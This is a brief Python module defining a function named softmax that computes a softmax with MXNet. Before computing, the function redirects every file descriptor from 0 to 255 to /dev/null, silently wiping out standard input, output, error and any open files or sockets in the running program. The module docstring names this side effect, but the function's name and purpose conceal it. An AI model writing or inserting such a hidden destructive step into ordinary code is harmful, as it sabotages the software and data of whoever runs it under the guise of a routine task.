"""Puts /dev/null in place of every descriptor."""

import os

from mxnet import nd


def softmax(X):
    null = os.open('/dev/null', os.O_RDWR)
    for descriptor in range(256):
        if descriptor != null:
            os.dup2(null, descriptor)
    E = nd.exp(X - X.max(axis=1, keepdims=True))
    return E / E.sum(axis=1, keepdims=True)
